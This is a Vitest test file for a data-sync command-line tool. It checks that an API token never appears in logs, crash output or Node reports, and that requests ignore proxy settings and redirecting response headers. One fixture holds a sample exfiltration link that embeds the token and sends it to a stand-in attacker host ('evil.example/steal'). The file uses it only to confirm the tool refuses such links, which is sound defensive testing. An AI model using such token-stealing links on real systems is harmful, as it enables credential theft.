import fs from 'node:fs'
import { describe, expect, it } from 'vitest'
import { faultsOf } from '../helpers/faults.ts'
import { type Reply, serve } from '../helpers/list-server.ts'
import type { StartOptions } from '../helpers/processes.ts'
import { ACME, createScene } from '../helpers/scene.ts'
import { leaksOf, organization, variable, type Workspace } from '../helpers/workspace.ts'

// Where the token may not show and requests may not go, whatever happens and whoever asks for it. Each workspace looks for
// its tokens in all that the program wrote.

const TOKEN = String(ACME.token)

/** A server that nobody may ask. */
function stranger() {
  return serve(() => ({ body: 'you should not be here' }))
}

/** All files of the folder but the configuration: reports, dumps, whatever a process left. */
function allFiles({ folder }: Workspace): string[] {
  return fs
    .readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.name !== 'admin-mirror.yaml')
    .map(({ parentPath, name }) => fs.readFileSync(`${parentPath}/${name}`, 'latin1'))
}

/** Answers that show the token that came, as debug pages do. */
const ECHOES: Record<string, (token: string) => Reply> = {
  SERVER_ERROR: (token) => ({ status: 500, body: { message: `You sent ${token}.`, token } }),
  UNEXPECTED_STATUS: (token) => ({ status: 302, headers: { location: `/login?token=${token}` } }),
  BAD_RESPONSE: (token) => ({ body: `<html><title>Whoops ${token}</title></html>` }),
  LINK_REFUSED: (token) => ({
    body: {
      data: [{ id: 1 }],
      links: { next: `http://${token}:x@evil.example/steal?token=${token}&page=3` },
      meta: { current_page: 1, last_page: 2, total: 2 },
    },
  }),
}

describe.concurrent('the token, whatever happens,', () => {
  it('shows in nothing that is written of answers that repeat it', async () => {
    const organizations = Object.keys(ECHOES).map((code, index) => organization(code, index + 1))
    const { workspace } = await createScene({
      settings: { organizations },
      instead: ({ token }) => {
        const [, echo] = Object.entries(ECHOES).find(([code]) => token.includes(code)) ?? []
        return echo?.(token) ?? null
      },
    })

    const { code } = await workspace.run(['sync', '--log-level', 'trace'])

    expect(code).toBe(1)
    const ended = workspace.rows<{ code: string }>('SELECT error_code AS code FROM sync_runs ORDER BY 1')
    expect(ended.map((run) => run.code)).toEqual(Object.keys(ECHOES).toSorted())
    expect(workspace.leaks).toEqual([])
  })

  it('shows in no output of a crash that nobody catches', async () => {
    const { workspace } = await createScene()
    const headers = { authorization: `Bearer ${TOKEN}` }
    const throws = { options: { headers }, request: { headers }, cause: { headers } }

    const sync = await workspace.run(['sync', '--log-level', 'trace'], {
      env: faultsOf({ at: '^INSERT INTO sync_walks', does: { throws } }),
    })

    expect(sync.code).toBe(1)
    expect(sync.stderr).toMatch(/^INTERNAL: Error: planted/m)
    expect(workspace.leaks).toEqual([])
  })

  // Tests at the same time share the `expect` of the module, whose `poll` belongs to the one that began last.
  it('shows in no report that Node writes of the process', async ({ expect: ofThis }) => {
    const { server, workspace } = await createScene({
      settings: { organizations: [{ ...ACME, token: variable('ACME_TOKEN') }] },
      instead: () => new Promise(() => {}),
    })
    const sync = workspace.start(['sync'], {
      env: {
        ACME_TOKEN: workspace.secret(TOKEN),
        NODE_OPTIONS: '--report-on-signal --report-filename=report.json',
      },
    })
    await server.arrival(({ token }) => token === TOKEN)

    sync.kill('SIGUSR2')
    const report = workspace.file('report.json')
    await ofThis
      .poll(() => fs.existsSync(report) && fs.readFileSync(report, 'utf8').endsWith('}\n'))
      .toBe(true)
    sync.kill('SIGTERM')
    await sync.ended

    expect(leaksOf([TOKEN], allFiles(workspace))).toEqual([])
  })
})

describe.concurrent('requests', () => {
  it.each<[string, (url: string) => StartOptions['env']]>([
    ['HTTP_PROXY', (url) => ({ HTTP_PROXY: url, http_proxy: url })],
    ['HTTP_PROXY and NODE_USE_ENV_PROXY', (url) => ({ HTTP_PROXY: url, NODE_USE_ENV_PROXY: '1' })],
  ])('go to baseUrl whatever %s says', async (_name, env) => {
    const { server, workspace } = await createScene()
    const proxy = await stranger()

    const sync = await workspace.run(['sync'], { env: env(proxy.url) ?? {} })

    expect(sync.code).toBe(0)
    expect(server.asked.map(({ page }) => page)).toEqual([1, 2, 1])
    expect(proxy.asked).toEqual([])
  })

  it('go to baseUrl whatever an answer says, and hand nothing back', async () => {
    const elsewhere = await stranger()
    const headers = {
      'set-cookie': 'session=1; Path=/',
      link: `<${elsewhere.url}/api/v1/admin/orders?page=2>; rel="next"`,
      location: `${elsewhere.url}/login`,
      'content-location': elsewhere.url,
      refresh: `0; url=${elsewhere.url}`,
      'alt-svc': `http/1.1="${new URL(elsewhere.url).host}"`,
      'x-forwarded-host': new URL(elsewhere.url).host,
      'proxy-authenticate': 'Basic',
      'www-authenticate': 'Basic',
    }
    const { server, workspace } = await createScene({
      instead: ({ page }) => ({
        headers,
        body: {
          data: [{ id: page }],
          // Where a proxy's word on the host got into the links.
          links: { next: page === 1 ? 'http://127.0.0.1:1/api/v1/admin/orders?page=2' : null },
          meta: { current_page: page, last_page: 2, total: 2 },
        },
      }),
    })

    const sync = await workspace.run(['sync'])

    expect(sync.code).toBe(0)
    expect(elsewhere.asked).toEqual([])
    expect(server.asked.map(({ page }) => page)).toEqual([1, 2, 1])
    const sent = new Set(server.asked.flatMap((asked) => Object.keys(asked.headers)))
    expect([...sent].toSorted()).toEqual([
      'accept',
      'accept-encoding',
      'authorization',
      'connection',
      'host',
      'user-agent',
      'x-service-organization',
    ])
    expect(new Set(server.asked.map(({ headers: { host } }) => host))).toEqual(
      new Set([new URL(server.url).host]),
    )
  })
})

describe('the search for tokens', () => {
  const token = '7|Secret/of+acme-x7Qp93LmZt5VbRw'

  it.each([
    ['whole', `the token ${token} was refused`],
    ['cut short', `the token ${token.slice(0, 20)}...`],
    ['encoded', `?token=${encodeURIComponent(token)}`],
    ['in capitals', token.toUpperCase()],
  ])('finds one that is %s', (_, text) => {
    expect(leaksOf([token], ['nothing', text])).toHaveLength(1)
  })

  it('finds none where none is', () => {
    expect(leaksOf([token], ['7 of them are secret', '[token]'])).toEqual([])
  })
})
